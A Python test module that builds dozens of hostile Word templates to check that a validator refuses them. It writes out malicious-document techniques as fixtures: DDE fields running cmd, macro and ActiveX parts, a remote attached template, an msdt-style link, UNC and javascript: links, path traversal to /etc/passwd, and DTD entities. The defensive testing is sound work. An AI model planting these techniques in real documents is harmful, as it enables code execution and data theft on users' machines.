"""Hostile templates made from a shipped one, its real fields left in: what each holds that no template may, and where."""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass
from typing import TYPE_CHECKING

import openpyxl

from tests import sample, witness, wordfile

if TYPE_CHECKING:
    from collections.abc import Callable

    Parts = dict[str, bytes]

NAME = "nota-verifikasi.docx"
BODY, RELS, TYPES, SETTINGS = (
    "word/document.xml",
    "word/_rels/document.xml.rels",
    "[Content_Types].xml",
    "word/settings.xml",
)
OFFICE = wordfile.OFFICE
MICROSOFT = "http://schemas.microsoft.com/office"
CHART = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W = f'xmlns:w="{WORDS}"'


@dataclass(frozen=True, slots=True)
class Hostile:
    """One kind: how the shipped template is altered, the code that refuses it, and the part it names."""

    alter: Callable[[Parts], None]
    code: str
    part: str = BODY

    def made(self) -> bytes:
        """Return the template."""
        parts = shipped()
        self.alter(parts)
        return wordfile.packed(parts)


def shipped() -> Parts:
    """Return the parts of the shipped template."""
    return witness.parts((sample.KIT / NAME).read_bytes())


def into(part: str, before: str, text: str) -> Callable[[Parts], None]:
    """Return an alteration that puts text before the last place of another."""

    def alter(parts: Parts) -> None:
        head, found, tail = parts[part].rpartition(before.encode())
        assert found, before
        parts[part] = head + text.encode() + found + tail

    return alter


def in_body(xml: str) -> Callable[[Parts], None]:
    """Return an alteration that puts XML at the end of the body."""
    return into(BODY, "<w:sectPr", xml)


def related(
    kind: str, target: str, *, external: bool = True, rels: str = RELS, name: str = "rJahat"
) -> Callable[[Parts], None]:
    """Return an alteration that adds a relationship."""
    mode = ' TargetMode="External"' if external else ""
    kind = kind if ":" in kind else f"{OFFICE}/{kind}"
    line = f'<Relationship Id="{name}" Type="{kind}" Target="{target}"{mode}/>'
    return into(rels, "</Relationships>", line)


def with_part(name: str, content: bytes, kind: str, *more: Callable[[Parts], None]) -> Callable[[Parts], None]:
    """Return an alteration that adds a part of a kind, and then does more."""

    def alter(parts: Parts) -> None:
        parts[name] = content
        if kind:
            into(TYPES, "</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/>')(parts)
        for one in more:
            one(parts)

    return alter


def retyped(kind: str) -> Callable[[Parts], None]:
    """Return an alteration that says another kind of the main part."""
    main = f"{wordfile.WORD}.document.main+xml"
    return lambda parts: parts.update({TYPES: parts[TYPES].replace(main.encode(), kind.encode())})


def field(code: str) -> str:
    """Return a paragraph with a field, as Word writes one."""
    return f"<w:p>{runs(f'<w:instrText>{code}</w:instrText>')}</w:p>"


def runs(*inside: str) -> str:
    """Return a field whose code is cut into runs."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    code = "".join(f"<w:r>{each}</w:r>" if each.startswith("<w:instr") else each for each in inside)
    return f"{mark.format('begin')}{code}{mark.format('separate')}<w:r><w:t>hasil</w:t></w:r>{mark.format('end')}"


def instr(text: str, kind: str = "instrText") -> str:
    """Return a run with a piece of a code."""
    return f"<w:r><w:{kind}>{text}</w:{kind}></w:r>"


def paragraph(*pieces: str) -> str:
    """Return a paragraph of such pieces."""
    return f"<w:p>{''.join(pieces)}</w:p>"


def setting(xml: str) -> Callable[[Parts], None]:
    """Return an alteration of the settings."""
    return into(SETTINGS, "</w:settings>", xml)


def together(*alterations: Callable[[Parts], None]) -> Callable[[Parts], None]:
    """Return several alterations as one."""

    def alter(parts: Parts) -> None:
        for one in alterations:
            one(parts)

    return alter


def renamed(old: str, new: str) -> Callable[[Parts], None]:
    """Return an alteration that calls a part otherwise where it lies."""
    return lambda parts: parts.update({new: parts.pop(old)})


def story(kind: str, element: str, inside: str) -> Callable[[Parts], None]:
    """Return an alteration that adds a part of Word's own with something in it."""
    content = f"<w:{element} {W}>{inside}</w:{element}>".encode()
    return with_part(
        f"word/{kind}.xml", content, f"{wordfile.WORD}.{kind}+xml", related(kind, f"{kind}.xml", external=False)
    )


def svg(inside: str) -> Callable[[Parts], None]:
    """Return an alteration that adds a drawing."""
    content = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{inside}</svg>'
    return with_part(
        "word/media/gambar.svg", content.encode(), "image/svg+xml", related("image", "media/gambar.svg", external=False)
    )


def book(**parts: str) -> bytes:
    """Return a chart's workbook, with parts altered or added."""
    out = io.BytesIO()
    made = openpyxl.Workbook()
    made.worksheets[0].append(["a", parts.pop("cell", "1")])
    made.save(out)
    files = {entry: zipfile.ZipFile(out).read(entry) for entry in zipfile.ZipFile(out).namelist()}
    return wordfile.packed(files | {name: text.encode() for name, text in parts.items()})


def chart(workbook: bytes) -> Callable[[Parts], None]:
    """Return an alteration that adds a chart with a workbook in it, as Word does."""
    rel = f'<Relationships xmlns="{wordfile.PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/package" Target="../embeddings/buku.xlsx"/></Relationships>'
    space = 'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    return together(
        with_part(
            "word/charts/chart1.xml",
            f'<c:chartSpace {space}><c:externalData r:id="r1"/></c:chartSpace>'.encode(),
            CHART,
        ),
        with_part("word/charts/_rels/chart1.xml.rels", rel.encode(), ""),
        with_part(
            "word/embeddings/buku.xlsx", workbook, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        ),
        related("chart", "charts/chart1.xml", external=False),
    )


MACROS = f"{MICROSOFT}/2006/relationships"
CHOICE = '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:zz="urn:x"><mc:Choice Requires="zz">{}</mc:Choice><mc:Fallback>{}</mc:Fallback></mc:AlternateContent>'
BOX = '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape>{}</v:shape></w:pict></w:r></w:p>'
BEGIN, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))

KINDS: dict[str, Hostile] = {
    # What acts.
    "macros": Hostile(with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0", "application/vnd.ms-office.vbaProject", related(f"{MACROS}/vbaProject", "vbaProject.bin", external=False)), "template-macro", "word/vbaProject.bin"),
    "macro data": Hostile(with_part("word/vbaData.xml", b"<x/>", "application/vnd.ms-word.vbaData+xml"), "template-macro", "word/vbaData.xml"),
    "macros without a kind of their own": Hostile(together(with_part("word/x.xml", b"<x/>", "application/xml"), related(f"{MACROS}/vbaProject", "x.xml", external=False)), "template-macro", RELS),
    "docm renamed": Hostile(retyped("application/vnd.ms-word.document.macroEnabled.main+xml"), "template-kind"),
    "dotx renamed": Hostile(retyped(f"{wordfile.WORD}.template.main+xml"), "template-kind"),
    "dotm renamed": Hostile(retyped("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"), "template-kind"),
    "keys that call macros": Hostile(with_part("word/customizations.xml", b"<x/>", "application/vnd.ms-word.keyMapCustomizations+xml"), "template-macro", "word/customizations.xml"),
    "ribbon": Hostile(together(with_part("customUI/customUI14.xml", f'<customUI xmlns="{MICROSOFT}/2009/07/customui" onLoad="x"/>'.encode(), "application/xml"), related(f"{MICROSOFT}/2007/relationships/ui/extensibility", "customUI/customUI14.xml", external=False, rels="_rels/.rels")), "template-macro", "_rels/.rels"),
    "macro of a form field": Hostile(in_body('<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="AutoOpen"/></w:ffData></w:fldChar></w:r></w:p>'), "template-macro"),
    "ActiveX": Hostile(with_part("word/activeX/activeX1.xml", b"<x/>", "application/vnd.ms-office.activeX+xml", related("control", "activeX/activeX1.xml", external=False)), "template-embedded", "word/activeX/activeX1.xml"),
    "control": Hostile(in_body('<w:p><w:r><w:control w:name="x"/></w:r></w:p>'), "template-embedded"),
    "OLE object": Hostile(with_part("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0", "application/vnd.openxmlformats-officedocument.oleObject", related("oleObject", "embeddings/oleObject1.bin", external=False)), "template-embedded", "word/embeddings/oleObject1.bin"),
    "OLE in the body": Hostile(in_body('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package"/></w:object></w:r></w:p>'), "template-embedded"),
    "embedded document": Hostile(with_part("word/embeddings/lain.docx", b"PK\3\4", f"{wordfile.WORD}.document", related("package", "embeddings/lain.docx", external=False)), "template-embedded", RELS),
    "program": Hostile(with_part("word/media/alat.exe", b"MZ\x90", "application/x-msdownload"), "template-embedded", "word/media/alat.exe"),
    "a drawing that hands the printer code": Hostile(with_part("word/media/a.wmf", b"\xd7\xcd\xc6\x9a".ljust(22, b"\0") + b"\1\0\x09\0".ljust(18, b"\0") + b"\4\0\0\0\2\1\1\0" + b"\5\0\0\0\x26\6\x09\0\0\0", "image/x-wmf", related("image", "media/a.wmf", external=False)), "template-embedded", "word/media/a.wmf"),
    "program called a picture": Hostile(with_part("word/media/foto.png", b"MZ\x90\0", "image/png", related("image", "media/foto.png", external=False)), "template-embedded", "word/media/foto.png"),
    "task pane": Hostile(with_part("word/webextensions/taskpanes.xml", b"<x/>", "application/vnd.ms-office.webextensiontaskpanes+xml"), "template-embedded", "word/webextensions/taskpanes.xml"),
    "video from the web": Hostile(in_body('<w:p><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="x"/></w:p>'), "template-embedded"),
    "formula in a chart's workbook": Hostile(chart(book(cell="=WEBSERVICE(A1)")), "template-embedded", "word/embeddings/buku.xlsx"),
    "link out of a chart's workbook": Hostile(chart(book(**{"xl/_rels/x.xml.rels": f'<Relationships xmlns="{wordfile.PACKAGE}/relationships"><Relationship Id="r" Type="{OFFICE}/hyperlink" Target="https://x.go.id" TargetMode="External"/></Relationships>'})), "template-embedded", "word/embeddings/buku.xlsx"),
    "workbook that no chart holds": Hostile(with_part("word/embeddings/buku.xlsx", book(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", related("package", "embeddings/buku.xlsx", external=False)), "template-embedded", "word/embeddings/buku.xlsx"),
    "script in a drawing": Hostile(svg("<script>x</script>"), "template-script", "word/media/gambar.svg"),
    "event in a drawing": Hostile(svg('<g onclick="x"/>'), "template-script", "word/media/gambar.svg"),
    "picture fetched by a drawing": Hostile(svg('<image xlink:href="https://x.go.id/a.png"/>'), "template-script", "word/media/gambar.svg"),
    "style fetched by a drawing": Hostile(svg("<style>@import 'https://x.go.id/a.css';</style>"), "template-script", "word/media/gambar.svg"),
    # What takes in another document.
    "altChunk": Hostile(together(with_part("word/lain.html", b"<html/>", "text/html"), related("aFChunk", "lain.html", external=False), in_body('<w:altChunk r:id="rJahat"/>')), "template-included"),
    "altChunk of XHTML": Hostile(with_part("word/lain.xhtml", b"<html/>", "application/xhtml+xml"), "template-embedded", "word/lain.xhtml"),
    "altChunk, strict": Hostile(in_body('<x:altChunk xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'), "template-included"),
    "subdocument": Hostile(together(related("subDocument", "lain.docx"), in_body('<w:p><w:subDoc r:id="rJahat"/></w:p>')), "template-included"),
    # What leads out.
    "attached template": Hostile(with_part("word/_rels/settings.xml.rels", f'<Relationships xmlns="{wordfile.PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/attachedTemplate" Target="https://x.go.id/a.dotm" TargetMode="External"/></Relationships>'.encode(), ""), "template-external", "word/_rels/settings.xml.rels"),
    "linked picture": Hostile(related("image", "https://x.go.id/a.png"), "template-external", RELS),
    "UNC picture": Hostile(related("image", "file:///\\\\server\\a.png"), "template-external", RELS),
    "file link": Hostile(related("hyperlink", "file:///C:/Windows/System32/calc.exe"), "template-external", RELS),
    "script link": Hostile(related("hyperlink", "javascript:alert(1)"), "template-external", RELS),
    "UNC link": Hostile(related("hyperlink", "\\\\server\\berbagi"), "template-external", RELS),
    "msdt link": Hostile(related("oleObject", "https://x.go.id/a.html!"), "template-external", RELS),
    "link whose kind comes from a field": Hostile(related("hyperlink", "{{ kasus.judul }}"), "template-external", RELS),
    "UNC inside": Hostile(related("image", "//server/a.png", external=False), "template-external", RELS),
    "header fetched": Hostile(related("header", "https://x.go.id/h.xml"), "template-external", RELS),
    "picture in a header": Hostile(into("word/_rels/kop.xml.rels", "</Relationships>", f'<Relationship Id="rX" Type="{OFFICE}/image" Target="http://x.go.id/a.png" TargetMode="External"/>'), "template-external", "word/_rels/kop.xml.rels"),
    "mail merge": Hostile(setting('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:query w:val="SELECT 1"/></w:mailMerge>'), "template-external", SETTINGS),
    "merge source": Hostile(related("mailMergeSource", "file:///C:/data.xlsx"), "template-external", RELS),
    "frame": Hostile(with_part("word/webSettings.xml", f"<w:webSettings {W}><w:frameset><w:frame><w:sourceFileName/></w:frame></w:frameset></w:webSettings>".encode(), f"{wordfile.WORD}.webSettings+xml"), "template-external", "word/webSettings.xml"),
    "old drawing that fetches": Hostile(in_body(BOX.format('<v:imagedata src="http://x.go.id/a.png"/>')), "template-external"),
    "old drawing that opens": Hostile(in_body(BOX.replace("<v:shape>", '<v:shape href="file:///C:/a.exe">').format("")), "template-external"),
    "custom XML that leads out": Hostile(together(with_part("customXml/item1.xml", b"<x/>", "application/xml"), with_part("customXml/_rels/item1.xml.rels", f'<Relationships xmlns="{wordfile.PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/customXmlProps" Target="http://x.go.id/p.xml" TargetMode="External"/></Relationships>'.encode(), "")), "template-external", "customXml/_rels/item1.xml.rels"),
    "link of text used as a picture": Hostile(together(related("hyperlink", "https://x.go.id/a.png"), in_body('<w:p><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rJahat"/></w:p>')), "template-external"),
    "link of text used by a tag": Hostile(together(related("hyperlink", "https://x.go.id/a.png"), in_body('<w:p><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="{{ kasus.kode }}"/></w:p>')), "template-external"),
    "relationship whose kind a tag makes": Hostile(related("{{ kasus.kode }}", "x.xml", external=False), "template-external", RELS),
    "element whose name a tag makes": Hostile(in_body('<q:altChunk xmlns:q="http://schemas.openxmlformats.org/{% if 1 %}wordprocessingml/2006/main{% endif %}"/>'), "template-unreadable"),
    "element whose name a tag makes, unseen": Hostile(in_body("<q:altChunk xmlns:q = 'http://x/&#123;% if 1 %&#125;main'/>"), "template-unreadable"),
    "kind that a tag makes": Hostile(with_part("word/x.xml", b"<x/>", "application/{{ kasus.kode }}+xml"), "template-part-kind", "word/x.xml"),
    "header called a font": Hostile(with_part("word/fonts/font1.odttf", b'<?xml version="1.0"?><x/>', "application/vnd.openxmlformats-officedocument.obfuscatedFont", related("header", "fonts/font1.odttf", external=False)), "template-embedded", "word/fonts/font1.odttf"),
    # Field codes.
    "field whose beginning a tag makes": Hostile(in_body(paragraph('<w:r><w:fldChar w:fldCharType="{{ kasus.kode }}"/></w:r>', instr("DDE cmd"), END)), "template-field"),
    "DDE": Hostile(in_body(field("DDE cmd &quot;/c calc&quot;")), "template-field"),
    "DDEAUTO in pieces": Hostile(in_body(paragraph(BEGIN, instr(" dDe"), instr("AU"), instr("tO c:\\\\windows"), END)), "template-field"),
    "DDE over paragraphs": Hostile(in_body(paragraph(BEGIN, instr("DDE")) + paragraph(instr(" cmd x"), END)), "template-field"),
    "simple field": Hostile(in_body('<w:p><w:fldSimple w:instr=" includepicture &quot;http://x.go.id/a.png&quot; \\d "/></w:p>'), "template-field"),
    "field begun in a simple field": Hostile(in_body(f'<w:p><w:fldSimple w:instr="PAGE">{BEGIN}</w:fldSimple>{instr("DDE cmd")}{END}</w:p>'), "template-field"),
    "INCLUDETEXT": Hostile(in_body(field('INCLUDETEXT "C:\\\\a.docx"')), "template-field"),
    "LINK": Hostile(in_body(field("LINK Excel.Sheet.12 C:\\\\a.xlsx")), "template-field"),
    "AUTOTEXT": Hostile(in_body(field("AUTOTEXT x")), "template-field"),
    "MACROBUTTON": Hostile(in_body(field("MACROBUTTON AutoOpen klik")), "template-field"),
    "DATABASE": Hostile(in_body(field('DATABASE \\d "C:\\\\a.mdb"')), "template-field"),
    "FILLIN": Hostile(in_body(field("FILLIN x")), "template-field"),
    "DATE": Hostile(in_body(field("DATE \\@ d")), "template-field"),
    "field inside a field": Hostile(in_body(paragraph(BEGIN, instr('IF "a" = "a" "'), BEGIN, instr("DDE cmd"), END, instr('"'), END)), "template-field"),
    "field named by a field": Hostile(in_body(paragraph(BEGIN, BEGIN, instr("REF x"), END, instr(" cmd"), END)), "template-field"),
    "field named half by a field": Hostile(in_body(paragraph(BEGIN, instr("PAGE"), BEGIN, instr("REF x"), END, END)), "template-field"),
    "field named by a tag": Hostile(in_body(field("{{ kasus.judul }}")), "template-field"),
    "field named by text": Hostile(in_body(paragraph(BEGIN, instr("DDE cmd", "t"), END)), "template-field"),
    "field in two branches": Hostile(in_body(paragraph(BEGIN, CHOICE.format(instr("PAGE "), instr("DDE ")), instr("cmd"), END)), "template-field"),
    "field in the branch for old programs": Hostile(in_body(paragraph(CHOICE.format("", runs("<w:instrText>DDE x</w:instrText>")))), "template-field"),
    "field behind a deletion": Hostile(in_body(paragraph(BEGIN, f"<w:del w:id='1'>{instr('PAGE ', 'delInstrText')}</w:del>", instr("DDE cmd"), END)), "template-field"),
    "field behind an insertion": Hostile(in_body(paragraph(BEGIN, f"<w:ins w:id='1'>{instr('PAGE ')}</w:ins>", instr("DDE cmd"), END)), "template-field"),
    "field with a comment in its name": Hostile(in_body(field("<!-- x -->DDE cmd")), "template-field"),
    "HYPERLINK to a file": Hostile(in_body(field('HYPERLINK "file:///C:/a.exe"')), "template-field"),
    "HYPERLINK made by a field": Hostile(in_body(paragraph(BEGIN, instr('HYPERLINK "'), BEGIN, instr("REF x"), END, instr('"'), END)), "template-field"),
    "HYPERLINK with curly quotes": Hostile(in_body(field("HYPERLINK \\o “https://x.go.id” “\\\\\\\\server\\\\a”")), "template-field"),
    "field in a header": Hostile(into("word/kop.xml", "</w:hdr>", field("DDE cmd")), "template-field", "word/kop.xml"),
    "field in a footer": Hostile(into("word/kaki-tegak.xml", "</w:ftr>", field("DDE cmd")), "template-field", "word/kaki-tegak.xml"),
    "field in a footnote": Hostile(story("footnotes", "footnotes", f'<w:footnote w:id="2">{field("DDE x")}</w:footnote>'), "template-field", "word/footnotes.xml"),
    "field in a comment": Hostile(story("comments", "comments", f'<w:comment w:id="2">{field("DDE x")}</w:comment>'), "template-field", "word/comments.xml"),
    "field in a text box": Hostile(in_body(paragraph(BEGIN, instr("PAGE "), f"<w:r><w:pict><w:txbxContent>{field('DDE x')}</w:txbxContent></w:pict></w:r>", END)), "template-field"),
    "field in a building block": Hostile(with_part("word/glossary/document.xml", f'<w:glossaryDocument {W}><w:docParts>{field("DDE x")}</w:docParts></w:glossaryDocument>'.encode(), f"{wordfile.WORD}.document.glossary+xml"), "template-field", "word/glossary/document.xml"),
    "field in the strict form": Hostile(in_body('<x:p xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main"><x:fldSimple x:instr="DDE x"/></x:p>'), "template-field"),
    # The package.
    "name that climbs": Hostile(with_part("../../autoexec.xml", b"<x/>", "application/xml"), "template-part-name", "../../autoexec.xml"),
    "name that climbs unseen": Hostile(with_part("word/%2e%2e/%2e%2e/a.xml", b"<x/>", "application/xml"), "template-part-name", "word/%2e%2e/%2e%2e/a.xml"),
    "absolute name": Hostile(with_part("/etc/a.xml", b"<x/>", "application/xml"), "template-part-name", "/etc/a.xml"),
    "name with a drive": Hostile(with_part("C:/a.xml", b"<x/>", "application/xml"), "template-part-name", "C:/a.xml"),
    "backslashes": Hostile(renamed("word/styles.xml", "word\\styles.xml"), "template-part-name", "word\\styles.xml"),
    "known part in other letters": Hostile(renamed("word/styles.xml", "WORD/STYLES.XML"), "template-part-name", "WORD/STYLES.XML"),
    "two parts of one name": Hostile(with_part("word/Document.xml", b"<x/>", "application/xml"), "template-part-name", "word/Document.xml"),
    "relationship that climbs": Hostile(related("image", "../../../etc/passwd", external=False), "template-part-name", RELS),
    "relationship that climbs unseen": Hostile(related("image", "%252e%252e/%2e%2e/a.png", external=False), "template-part-name", RELS),
    "two relationships of one name": Hostile(together(related("theme", "theme/a.xml", external=False), related("theme", "theme/b.xml", external=False)), "template-part-name", RELS),
    "part that is not listed": Hostile(with_part("word/media/a.dat", b"x", ""), "template-part-kind", "word/media/a.dat"),
    "no content types": Hostile(renamed(TYPES, "types.xml"), "template-unreadable"),
    "main part of a workbook": Hostile(retyped("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"), "template-unreadable"),
    "two main parts": Hostile(related("officeDocument", "word/styles.xml", external=False, rels="_rels/.rels"), "template-unreadable"),
    "no main part": Hostile(lambda parts: parts.update({"_rels/.rels": parts["_rels/.rels"].replace(b'/officeDocument"', b'/lain"')}), "template-unreadable"),
    "DTD": Hostile(lambda parts: parts.update({SETTINGS: b'<?xml version="1.0"?>' + b" " * 2000 + b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "template-unreadable"),
    "DTD in UTF-16": Hostile(lambda parts: parts.update({SETTINGS: '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16")}), "template-unreadable"),
    "signature": Hostile(with_part("_xmlsignatures/origin.sigs", b"", "application/vnd.openxmlformats-package.digital-signature-origin"), "template-signed", "_xmlsignatures/origin.sigs"),
}  # fmt: skip
